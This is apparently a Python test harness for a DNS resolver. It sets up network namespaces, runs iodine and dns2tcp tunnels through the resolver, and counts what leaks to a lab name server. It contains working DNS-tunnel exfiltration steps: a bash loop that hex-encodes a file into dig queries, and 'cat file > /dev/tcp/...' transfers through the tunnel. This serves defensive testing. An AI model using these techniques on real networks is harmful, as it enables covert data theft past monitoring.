"""Real tunnels through a resolver, in two namespaces: a client inside, and outside the resolver and the far end.

    client 198.18.7.2 --- 198.18.7.1:53 resolver --- 9.9.9.9 name server --- 203.0.113.66 iodined, dns2tcpd

What left is counted outside, at the name server, before the tunnel's own server sees it; what came out of the tunnel
is counted where it was to arrive. Used by the tests and by tests/bench/tunnels.py. Needs root, /dev/net/tun, and the
Debian packages iodine and dns2tcp.
"""

import json
import random
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from tests.peers.namespace import Internet, wait_until

CLIENT, RESOLVER, UPSTREAM, AUTHORITY = "198.18.7.2", "198.18.7.1", "9.9.9.9", "203.0.113.66"
ZONE = "kestrelmoor.net"
"""Registered by nobody that a list of popular domains knows, so it counts as unknown."""
_TUNNEL = f"t.{ZONE}"
_SINK, _ENTRY = 9000, 2222
_PASSWORD = "letmein"
FILE = 100_000
"""Octets of the file, unless it is said otherwise."""
HEX_FILE = 2048
TRICKLE = 20
"""Lines of the chat, of some 20 octets, ten a second."""


@dataclass(frozen=True)
class Tool:
    """A tunnel and how it is set."""

    program: str
    qtype: str
    options: tuple[str, ...] = ()

    def __str__(self) -> str:
        return " ".join((self.program, self.qtype, *self.options))


TOOLS = (
    *(Tool("iodine", qtype, lazy) for qtype in ("NULL", "TXT", "CNAME", "A") for lazy in ((), ("-L0",))),
    *(Tool("dns2tcp", qtype) for qtype in ("TXT", "KEY")),
)
HEX = Tool("hex", "A")
"""Not a tunnel but a loop in a shell: 16 octets of a file, in hexadecimal, in each name."""


@dataclass(frozen=True)
class Leak:
    """What got out."""

    established: bool
    """The tool says that the tunnel stands; dns2tcp, that says nothing, brought something through."""
    arrived: int
    """Octets that came out of the tunnel."""
    questions: int
    """That reached the far end."""
    octets: int
    """In the names of those, below the tunnel's zone: no payload is larger."""


def missing() -> str:
    """Say what is not here that a tunnel needs; nothing when all is here."""
    programs = [name for name in ("iodine", "iodined", "dns2tcpc", "dns2tcpd") if shutil.which(name) is None]
    if programs:
        return f"needs {', '.join(programs)} (Debian packages iodine and dns2tcp)"
    return "" if Path("/dev/net/tun").exists() else "needs /dev/net/tun"


@dataclass
class Lab:
    """Both namespaces."""

    inside: Internet
    outside: Internet
    folder: Path
    _lines: list[dict[str, Any]] = field(default_factory=list)
    _read: int = 0

    def lines(self) -> list[dict[str, Any]]:
        """Return what the far end has seen. It is asked for again and again, and thousands of lines come."""
        with (self.folder / "far.jsonl").open("rb") as log:
            log.seek(self._read)
            new = log.read()
        whole = new[: new.rfind(b"\n") + 1]
        self._read += len(whole)
        self._lines += map(json.loads, whole.splitlines())
        return self._lines

    def arrived(self) -> int:
        """Return how many octets came out of the tunnel."""
        return sum(line["octets"] for line in self.lines() if line["event"] == "arrived")

    def leak(self, *, established: bool) -> Leak:
        """Return what got out so far."""
        asked = [line for line in self.lines() if line["event"] == "question"]
        return Leak(established, self.arrived(), len(asked), sum(line["octets"] for line in asked))

    def try_out(
        self, tool: Tool, server: str = RESOLVER, *, patience: float = 30.0, size: int = FILE, tries: int = 1
    ) -> Leak:
        """Set up a tunnel and send a file and a chat through it. Returns what got out.

        `patience` is how long the tool may take to set the tunnel up, and again for each transfer. One of which none
        arrives is tried up to `tries` times: dns2tcp loses a connection now and then.
        """
        if tool is HEX:
            return self._hex(server, patience)
        if not (self._iodine if tool.program == "iodine" else self._dns2tcp)(tool, server, patience):
            return self.leak(established=False)
        target = f"10.99.0.1/{_SINK}" if tool.program == "iodine" else f"127.0.0.1/{_ENTRY}"
        data = self.folder / "file"
        data.write_bytes(random.Random(1).randbytes(size))  # iodine compresses what it can
        chat = f'for i in $(seq {TRICKLE}); do echo "$i: hello, anybody?"; sleep 0.1; done'
        said = sum(len(f"{index}: hello, anybody?\n") for index in range(1, TRICKLE + 1))
        for script, more in ((f"cat {data} > /dev/tcp/{target}", size), (f"({chat}) > /dev/tcp/{target}", said)):
            before = self.arrived()
            for _ in range(tries):
                self._send(script, before + more, patience)
                if self.arrived() > before:
                    break
        return self.leak(established=tool.program == "iodine" or self.arrived() > 0)

    def _hex(self, server: str, patience: float) -> Leak:
        """Ask for names with HEX_FILE octets in them; what came out is what the name server could read."""
        self._authority()
        data = self.folder / "file"
        data.write_bytes(random.Random(1).randbytes(HEX_FILE))
        ask = f"dig @{server} +tries=1 +time=2"
        process = self.inside.start(
            *("bash", "-c", f"od -An -v -tx1 -w16 {data} | tr -d ' ' | while read l; do {ask} $l.{_TUNNEL}; done"),
            log="hex.log",
        )
        wait_until(lambda: process.poll() is not None, "the last name", patience * 4)
        found = self.leak(established=False)
        names = {line["name"].partition(".")[0].lower() for line in self.lines() if line["event"] == "question"}
        return replace(found, arrived=sum(len(name) // 2 for name in names))

    def _authority(self) -> None:
        self.outside.start(
            *("iodined", "-f", "-c", "-P", _PASSWORD, "-l", AUTHORITY, "10.99.0.1/24", _TUNNEL), log="iodined.log"
        )
        wait_until(lambda: "Listening to dns" in self._log("iodined.log"), "iodined to listen")

    def _send(self, script: str, total: int, patience: float) -> None:
        """Send something and wait for it to arrive, but not longer than that."""
        process = self.inside.start("bash", "-c", script, log="send.log")
        try:
            wait_until(lambda: self.arrived() >= total, "the data", patience)
        except AssertionError:
            pass  # it is stuck, and what did arrive is counted
        finally:
            process.kill()
            process.wait()

    def _iodine(self, tool: Tool, server: str, patience: float) -> bool:
        self._authority()
        client = self.inside.start(
            *("iodine", "-f", "-r", "-P", _PASSWORD, "-T", tool.qtype, *tool.options, server, _TUNNEL),
            log="iodine.log",
        )
        return self._stands(client, "iodine.log", "Connection setup complete", patience)

    def _dns2tcp(self, tool: Tool, server: str, patience: float) -> bool:
        config = self.folder / "dns2tcpd.conf"
        config.write_text(
            f"listen = {AUTHORITY}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {_TUNNEL}\n"
            f"key = {_PASSWORD}\nresources = sink:127.0.0.1:{_SINK}\n"
        )
        self.outside.start("dns2tcpd", "-F", "-f", str(config), log="dns2tcpd.log")
        # Without -f it reads ~/.dns2tcprc.
        argv = ("dns2tcpc", "-f", "/dev/null", "-z", _TUNNEL, "-k", _PASSWORD, "-T", tool.qtype, "-d", "1")
        client = self.inside.start(*argv, "-r", "sink", "-l", str(_ENTRY), server, log="dns2tcp.log")
        return self._stands(client, "dns2tcp.log", "Listening on port", patience)

    def _stands(self, client: "subprocess.Popen[bytes]", log: str, sign: str, patience: float) -> bool:
        """Wait for a client to have its tunnel, to give up, or for too long."""
        try:
            wait_until(lambda: sign in self._log(log) or client.poll() is not None, "the tunnel", patience)
        except AssertionError:
            return False
        return sign in self._log(log)

    def _log(self, name: str) -> str:
        for world in (self.inside, self.outside):
            if (path := world.folder / name).exists():
                return path.read_text(errors="replace")
        return ""


@contextmanager
def lab(folder: Path, name: str, *, entropy: tuple[float, int] | None = None) -> Iterator[Lab]:
    """Make the namespaces, and remove them. `entropy` is a filter at the name server: bits a character and length."""
    worlds = []
    for side in ("in", "out"):
        namespace = f"{name}-{side}"
        subprocess.run(["ip", "netns", "add", namespace], check=True)
        resolv = Path("/etc/netns") / namespace
        resolv.mkdir(parents=True)
        (resolv / "resolv.conf").write_text(f"nameserver {RESOLVER if side == 'in' else UPSTREAM}\n")
        place = folder / side
        place.mkdir()
        worlds.append(Internet(namespace, place))
    inside, outside = worlds
    try:
        for world in worlds:
            world.run("ip", "link", "set", "lo", "up")
        link = f"ip -n {inside.namespace} link add veth0 type veth peer name veth0 netns {outside.namespace}"
        subprocess.run(link.split(), check=True)
        for world, address in ((inside, CLIENT), (outside, RESOLVER)):
            world.run("ip", "address", "add", f"{address}/30", "dev", "veth0")
            world.run("ip", "link", "set", "veth0", "up")
        for address in (UPSTREAM, AUTHORITY):
            outside.run("ip", "address", "add", f"{address}/32", "dev", "lo")
        inside.run("ip", "route", "add", "default", "via", RESOLVER)
        spec = {"listen": UPSTREAM, "zones": {_TUNNEL: [AUTHORITY, 53]}, "sink": _SINK, "filter": entropy}
        (folder / "spec.json").write_text(json.dumps({**spec, "log": str(folder / "far.jsonl")}))
        outside.start(sys.executable, "tests/peers/tunnel_far_end.py", str(folder / "spec.json"), log="far.log")
        wait_until(lambda: "ready" in (outside.folder / "far.log").read_text(), "the far end to listen")
        yield Lab(inside, outside, folder)
    finally:
        for world in worlds:
            world.close()
